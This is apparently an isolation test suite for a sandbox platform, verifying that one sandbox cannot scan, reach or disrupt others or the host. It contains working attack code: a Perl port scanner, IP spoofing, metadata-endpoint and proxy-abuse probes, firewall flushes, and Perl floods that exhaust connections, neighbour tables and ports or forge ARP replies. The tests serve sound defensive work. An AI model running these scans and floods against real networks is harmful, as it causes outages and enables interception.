import { setTimeout as pause } from "node:timers/promises";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { TestSandbox } from "@/tests/lab";
import { isLongForm, siteUrl } from "@/tests/site";
import { type AttackLab, openAttackLab, pullBusybox } from "./attack-lab";

let attack: AttackLab;
let attacker: TestSandbox;
let victim: TestSandbox;

beforeAll(async () => {
  attack = await openAttackLab();
  [attacker, victim] = await Promise.all([attack.createSandbox(), attack.createSandbox()]);
  await Promise.all([pullBusybox(attacker), pullBusybox(victim)]);
});
afterAll(async () => {
  await Promise.all([attacker?.[Symbol.asyncDispose](), victim?.[Symbol.asyncDispose]()]);
  attack?.close();
});

/** Answers to anybody at some ports, the engine's own over TCP among them. */
const LISTENER = `
use IO::Socket::INET; use IO::Select;
my @doors = map { IO::Socket::INET->new(LocalPort => $_, Listen => 5, ReuseAddr => 1) or die $! } (2375, 7777, 8080);
print "listening\\n"; close STDOUT;
my $all = IO::Select->new(@doors);
while (my @ready = $all->can_read) { for (@ready) { my $c = $_->accept; print $c "open"; close $c } }
`;
/** Tries addresses and ports from standard input, many at once, and names what answers. */
const SCANNER = `
use IO::Socket::INET; use IO::Select;
my @targets = <STDIN>; chomp @targets; my $found = 0;
while (my @batch = splice @targets, 0, 64) {
  my %open; my $select = IO::Select->new;
  for (@batch) { my $s = IO::Socket::INET->new(PeerAddr => $_, Blocking => 0, Proto => "tcp") or next; $open{$s} = $_; $select->add($s) }
  my $until = time + 2;
  while ($select->count && time < $until) {
    for my $s ($select->can_write(0.5)) { $select->remove($s); if ($s->connected) { print "reached $open{$s}\\n"; $found++ } }
  }
}
print "found $found\\n";
`;

it("T7 a scan from one sandbox finds no other, whatever that one opens and both flush", async () => {
  const opened = await victim.sh(
    `sudo iptables -F; sudo iptables -P INPUT ACCEPT; cat > /tmp/l.pl; (perl /tmp/l.pl > /tmp/l.out 2>&1 &); curl -s --http0.9 --retry 20 --retry-connrefused --retry-delay 0 http://$(hostname -i):7777/; echo; hostname -i; ip -o -4 addr show eth0 | awk '{print $4}'; ip route | awk '/default/ {print $3}'`,
    { input: LISTENER },
  );
  const [greeting, address = "", , gateway = ""] = opened.stdout.toString().trim().split("\n");
  expect(greeting).toBe("open");
  const network = address.split(".").slice(0, 3).join(".");
  const targets = [
    ...Array.from({ length: isLongForm ? 254 : 32 }, (_, host) => `${network}.${host + 1}`),
    address,
    gateway,
  ].flatMap((host) => [22, 2375, 5000, 7777, 8080].map((port) => `${host}:${port}`));
  const own = await attacker.sh("hostname -i");
  const { text } = await attacker.sh(
    `sudo iptables -F; sudo iptables -t nat -F; sudo ip route add ${address}/32 dev eth0 2>/dev/null; cat > /tmp/targets; sudo perl -e '${SCANNER.replaceAll("'", "")}' < /tmp/targets`,
    { input: `${targets.join("\n")}\n`, timeoutMs: 120_000 },
  );
  expect(text.split("\n").filter((line) => line.startsWith("reached") && !line.includes(own.text.trim()))).toEqual([]);
  expect(text).toMatch(/found 0\n/);
  const { text: spoofed } = await attacker.sh(
    `sudo ip addr add ${address.replace(/\d+$/, "14")}/28 dev eth0; ping -c1 -W2 ${address} >/dev/null && echo pinged; sudo ip addr del ${address.replace(/\d+$/, "14")}/28 dev eth0; echo end`,
  );
  expect(spoofed).toBe("end\n");
});

it("T7 the doors to a sandbox's engine are unix sockets only", async () => {
  const { text } = await victim.sh("sudo pkill perl; ss -Hltn | awk '{print $4}' | grep -v ^127; echo end");
  expect(text).toBe("end\n");
});

it("T8 nothing outside is reached, nor the machine, nor the web server, also after a flush and from a container", async () => {
  const port = new URL(siteUrl).port;
  const probe = `
    gateway=$(ip route | awk '/default/ {print $3}')
    for to in $gateway 10.200.0.1 172.17.0.1 10.200.8.2 169.254.169.254 198.51.100.1 192.168.0.1 100.64.0.1; do
      for door in 80 ${port}; do nc -w 2 $to $door < /dev/null > /dev/null 2>&1 && echo reached $to:$door; done
    done
    timeout 4 nslookup example.com 198.51.100.53 > /dev/null 2>&1 && echo resolved
    ping -c1 -W2 $gateway > /dev/null 2>&1 && echo pinged
    echo end
  `;
  const began = Date.now();
  const flush = "sudo iptables -F; sudo iptables -t nat -F; sudo iptables -P OUTPUT ACCEPT";
  const { text } = await attacker.sh(
    `${flush}; for n in host bridge; do [ $n = host ] || sudo systemctl restart docker 2>/dev/null; docker run --rm -i --network $n busybox sh -c '${probe.replaceAll("'", "")}'; done`,
    { timeoutMs: 150_000 },
  );
  expect(text.split("\n").filter((line) => /^(reached|resolved|pinged)/.test(line))).toEqual([]);
  expect(text.match(/^end$/gm)).toHaveLength(2);
  const curl = await attacker.sh(
    `for to in 169.254.169.254 198.51.100.1 example.com 10.200.0.1:${port}; do curl -s -o /dev/null --max-time 4 http://$to/ && echo reached $to; done; echo end`,
  );
  expect(curl.text).toBe("end\n");
  // refused, not swallowed: a student's command fails at once
  expect(Date.now() - began).toBeLessThan(120_000);
});

it("T8 the package cache is a way to two archives and to nothing else", async () => {
  const hosts = ["example.com", "10.200.8.1", "10.200.8.2:5000", "172.17.0.1", "169.254.169.254", "127.0.0.1:8503"];
  const path = "/debian/dists/trixie/InRelease";
  const asks = hosts.flatMap((host) => [
    `-x http://10.200.8.3:80 http://${host}${path}`,
    `-H 'Host: ${host}' http://10.200.8.3${path}`,
  ]);
  const { text } = await attacker.sh(
    `${asks.map((ask) => `curl -s -o /dev/null -m 10 -w '%{http_code}\n' ${ask}`).join("; ")}`,
  );
  expect(text.trim().split("\n")).toEqual(asks.map(() => "403"));
  const tunnels = await attacker.sh(
    `for to in deb.debian.org:443 10.200.8.1:22 example.com:443; do curl -s -o /dev/null -m 10 -p -x http://10.200.8.3:80 http://$to/ && echo reached $to; done; for door in 22 53 443 3142 5000 8503; do curl -s -o /dev/null -m 4 http://10.200.8.3:$door/ && echo reached $door; done; for name in example.com naru-hub host.docker.internal; do getent hosts $name; done; echo end`,
  );
  expect(tunnels.text).toBe("end\n");
});

/** Attacks on what all sandboxes share of the network; each says at its end how often it tried. */
const FLOODS: Readonly<Record<string, string>> = {
  connections: String.raw`
    use Socket; my $until = time + SECONDS; my $n = 0; my @held;
    while (time < $until) {
      for my $to (["10.200.8.2", 5000], ["198.51.100." . int(rand 255), 1 + int(rand 65000)], ["10.200.0.1", 53]) {
        socket(my $s, PF_INET, SOCK_STREAM, 0) or next; fcntl($s, 4, 2048);
        connect($s, sockaddr_in($to->[1], inet_aton($to->[0]))); $n++;
        push @held, $s; shift @held if @held > 900;
        socket(my $u, PF_INET, SOCK_DGRAM, 0); send($u, "x", 0, sockaddr_in($to->[1], inet_aton($to->[0])));
      }
    }
    print "tried $n\n";
  `,
  // a network of its own with millions of addresses nobody has: each asked for is an entry in the kernel's one table
  neighbours: String.raw`
    system "ip link add arp0 type veth peer name arp1; ip addr add 100.64.0.1/10 dev arp0; ip link set arp0 up; ip link set arp1 up";
    use Socket; my $until = time + SECONDS; my $n = 0; my @sockets;
    for (1 .. 400) { socket(my $s, PF_INET, SOCK_DGRAM, 0) or last; fcntl($s, 4, 2048); push @sockets, $s }
    while (time < $until) {
      for my $s (@sockets) { $n++ if send($s, "x", 0, sockaddr_in(9, pack("C4", 100, 64 + int(rand 60), int(rand 256), 1 + int(rand 250)))) }
    }
    system "ip link del arp0"; print "tried $n\n";
  `,
  // answers nobody asked for: each sender is new to the bridge, and says that the bridge's addresses are its own
  frames: String.raw`
    use Socket; socket(my $s, 17, SOCK_RAW, 0x0608) or die "socket: $!";
    my $index = do { open(my $f, "<", "/sys/class/net/eth0/ifindex"); 0 + <$f> };
    my ($network) = qx(hostname -i) =~ /^(d+.d+.d+)/; my $until = time + SECONDS; my $n = 0;
    while (time < $until) {
      for my $host (0 .. 255) {
        my $from = pack("C6", 2, map { int rand 256 } 1 .. 5); my $address = inet_aton("$network.$host");
        my $frame = ("\xff" x 6) . $from . pack("nnnCCn", 0x806, 1, 0x800, 6, 4, 2) . $from . $address . ("\xff" x 6) . $address;
        my $to = pack("S n l S C C a8", 17, 0x806, $index, 1, 0, 6, "\xff" x 6);
        $n++ if send($s, $frame, 0, $to);
      }
    }
    print "tried $n\n";
  `,
  ports: String.raw`
    use Socket; my $until = time + SECONDS; my $n = 0; my @held;
    for my $port (1 .. 60000) { socket(my $u, PF_INET, SOCK_DGRAM, 0) or last; $n++ if bind($u, sockaddr_in($port, INADDR_ANY)); push @held, $u }
    while (time < $until) {
      for my $port (1 .. 2000) {
        socket(my $s, PF_INET, SOCK_STREAM, 0) or last; fcntl($s, 4, 2048);
        bind($s, sockaddr_in(1024 + int(rand 60000), INADDR_ANY)); connect($s, sockaddr_in(5000, inet_aton("10.200.8.2"))); $n++;
      }
    }
    print "tried $n\n";
  `,
};

const floods = Object.entries(FLOODS);
it.each(floods)(
  "T15 a flood of %s leaves another sandbox's HTTP, new connections and the hub alone",
  async (_, flood) => {
    const seconds = isLongForm ? 30 : 8;
    const connections = async () => Number(await attack.outside("cat /proc/sys/net/netfilter/nf_conntrack_count"));
    const learned = async () => Number(await attack.outside("bridge fdb show | wc -l"));
    const [connectionsBefore, learnedBefore] = [await connections(), await learned()];
    await victim.sh(
      "docker rm -f web >/dev/null 2>&1; docker run -d --name web -p 8080:80 busybox sh -c 'mkdir /w; echo served > /w/index.html; exec httpd -f -h /w' && curl -s --retry 20 --retry-connrefused --retry-delay 0 localhost:8080",
    );
    const flooding = attacker.sh("perl -", {
      user: "root",
      input: flood.replaceAll("SECONDS", String(seconds)),
      timeoutMs: 120_000,
    });
    // the flood has begun: what is asked now is asked in its midst
    await pause(1_000);
    const { text } = await victim.sh(
      "ip=$(docker inspect -f '{{.NetworkSettings.IPAddress}}' web); for i in 1 2 3; do docker run --rm busybox wget -q -T 3 -O - http://$ip/; done; " +
        `for i in $(seq ${isLongForm ? 60 : 12}); do curl -s -o /dev/null -w 'hub %{http_code} %{time_total}\\n' --max-time 3 http://hub:5000/v2/_catalog; curl -s -o /dev/null -w 'own %{http_code} %{time_total}\\n' --max-time 3 localhost:8080/; done`,
      { timeoutMs: 120_000 },
    );
    const [connectionsDuring, learnedDuring] = [await connections(), await learned()];
    const { text: tried } = await flooding;
    console.log(`T15 ${tried.trim()}, ${connectionsDuring} connections, ${learnedDuring} addresses on bridges`);
    expect(Number(/tried (\d+)/.exec(tried)?.[1])).toBeGreaterThan(1000);
    const answers = text.split("\n").filter((line) => /^(hub|own)/.test(line));
    expect(answers).toHaveLength(isLongForm ? 120 : 24);
    for (const answer of answers) expect(answer).toMatch(/^(hub|own) 200 [01]\./);
    // each from a container that knew nobody before
    expect(text.match(/^served$/gm)).toHaveLength(3);
    // 200 a second and 256 at once may come through; without the limit tens of thousands do
    expect(Math.max(connectionsDuring, await connections()) - connectionsBefore).toBeLessThan(3_000 + seconds * 200);
    expect(Math.max(learnedDuring, await learned()) - learnedBefore).toBeLessThan(2_000);
  },
);
